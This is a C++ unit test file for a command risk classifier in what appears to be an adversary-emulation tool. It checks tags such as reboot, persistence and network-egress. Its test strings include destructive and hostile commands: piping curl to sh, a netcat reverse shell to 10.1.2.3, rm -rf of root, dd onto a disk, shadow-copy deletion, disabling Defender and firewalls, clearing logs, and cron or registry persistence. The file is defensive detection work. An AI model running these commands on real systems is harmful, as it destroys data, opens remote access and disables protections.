#include "scenarios/risk.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <string>
#include <vector>

#include "scenarios/atomic.h"

namespace fs = std::filesystem;
using namespace attest::scenarios;

namespace {

std::vector<std::string> risks_of(const char* executor, const char* text) {
    std::vector<std::string> out;
    for (const RiskTag& t : derive_risks(analyze_command(executor, text), text))
        out.emplace_back(risk_name(t.risk));
    return out;
}

using Names = std::vector<std::string>;

}  // namespace

TEST(Risk, DerivedFromCommands) {
    struct Case {
        const char* executor;
        const char* text;
        Names risks;
    } cases[] = {
        {"sh", "sudo shutdown -r now", {"reboot"}},
        {"sh", "shutdown -c", {}},
        {"sh", "systemctl reboot", {"reboot"}},
        {"sh", "systemctl status auditd", {}},
        {"sh", "systemctl stop auditd && auditctl -D", {"security-tampering"}},
        {"sh", "iptables -F; ufw disable", {"security-tampering"}},
        {"sh", "rm -rf /tmp/atomic-test", {}},
        {"sh", "rm -rf --no-preserve-root /", {"mass-deletion"}},
        {"sh", "dd if=/dev/zero of=/dev/sda bs=1M", {"disk-format"}},
        {"sh", "dd if=/dev/zero of=/tmp/file bs=1M count=1", {}},
        {"sh", "useradd -m evil && echo 'evil:x' | chpasswd", {"account-change"}},
        {"sh", "curl -s http://127.0.0.1:8080/x -o /tmp/x", {}},
        {"sh", "curl -s https://example.com/payload | sh", {"network-egress"}},
        {"sh", "nc 10.1.2.3 4444 -e /bin/sh", {"network-egress"}},
        {"sh", "ssh localhost id", {}},
        {"sh", "echo '* * * * * root id' > /etc/cron.d/evil", {"persistence"}},
        {"sh", "(crontab -l; echo '@reboot x') | crontab -", {"persistence"}},
        {"sh", "crontab -l", {}},
        {"command_prompt", "shutdown /r /t 0", {"reboot"}},
        {"command_prompt", "vssadmin delete shadows /all /quiet", {"mass-deletion"}},
        {"command_prompt", "netsh advfirewall set allprofiles state off", {"security-tampering"}},
        {"command_prompt", "net user hacker P@ss /add", {"account-change"}},
        {"command_prompt", "net user", {}},
        {"command_prompt", "schtasks /create /tn x /tr calc.exe /sc onlogon", {"persistence"}},
        {"command_prompt",
         "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d calc.exe",
         {"persistence"}},
        {"command_prompt", "reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", {}},
        {"command_prompt", "wevtutil cl Security", {"security-tampering"}},
        {"powershell", "Set-MpPreference -DisableRealtimeMonitoring $true", {"security-tampering"}},
        {"powershell", "Restart-Computer -Force", {"reboot"}},
        {"powershell", "New-LocalUser -Name x -NoPassword", {"account-change"}},
        {"powershell",
         "Invoke-WebRequest -Uri https://github.com/x -OutFile C:\\x",
         {"network-egress"}},
        {"powershell", "Get-Process | Out-File C:\\p.txt", {}},
        {"powershell", "Format-Volume -DriveLetter D", {"disk-format"}},
    };
    for (const Case& c : cases) EXPECT_EQ(risks_of(c.executor, c.text), c.risks) << c.text;
}

TEST(Risk, ReasonNamesTheCommandAndLine) {
    std::string text = "echo hi\nsudo reboot";
    auto tags = derive_risks(analyze_command("sh", text), text);
    ASSERT_EQ(tags.size(), 1u);
    EXPECT_EQ(tags[0].reason, "`reboot` (line 2)");
}

TEST(Risk, NamesRoundTrip) {
    for (Risk r : {Risk::Reboot, Risk::SecurityTampering, Risk::MassDeletion, Risk::DiskFormat,
                   Risk::AccountChange, Risk::NetworkEgress, Risk::Persistence})
        EXPECT_EQ(parse_risk(risk_name(r)), r);
    EXPECT_EQ(parse_risk("REBOOT"), Risk::Reboot);
    EXPECT_FALSE(parse_risk("destructive").has_value());
    EXPECT_TRUE(is_destructive(Risk::DiskFormat));
    EXPECT_FALSE(is_destructive(Risk::NetworkEgress));
}

// Upstream atomics that are known to be dangerous get their tags; harmless ones get none.
TEST(Risk, UpstreamAtomics) {
    std::string dir = ATTEST_SOURCE_DIR "/../shared/data/atomics";
    if (!fs::exists(dir)) GTEST_SKIP() << "../shared/data absent: upstream atomics not checked";
    struct Expect {
        const char* technique;
        std::size_t number;
        Names risks;
    } expected[] = {
        {"T1201", 1, {}},                      // cat /etc/pam.d/common-password
        {"T1531", 1, {"account-change"}},      // net user ... password change
        {"T1531", 4, {"account-change"}},      // passwd
        {"T1546.007", 1, {"persistence"}},     // netsh add helper DLL
        {"T1547.002", 1, {"persistence"}},     // an LSA authentication package
        {"T1688", 1, {"security-tampering"}},  // bcdedit /set
        {"T1071.004", 4, {"network-egress"}},  // DownloadString from raw.githubusercontent.com
    };
    Problems problems;
    auto files = load_atomics_folder(dir, problems);
    for (const Expect& e : expected) {
        const AtomicTest* test = nullptr;
        for (const AtomicFile& f : files)
            if (f.technique == e.technique && e.number <= f.tests.size())
                test = &f.tests[e.number - 1];
        ASSERT_NE(test, nullptr) << e.technique;
        auto r = resolve_test(*test, {}, atomics_folder_of(dir));
        ASSERT_TRUE(r.ok());
        Names got;
        for (const RiskTag& t :
             derive_risks(analyze_command(test->executor.name, r->command), r->command))
            got.emplace_back(risk_name(t.risk));
        EXPECT_EQ(got, e.risks) << e.technique << " #" << e.number << ": " << r->command;
    }
}
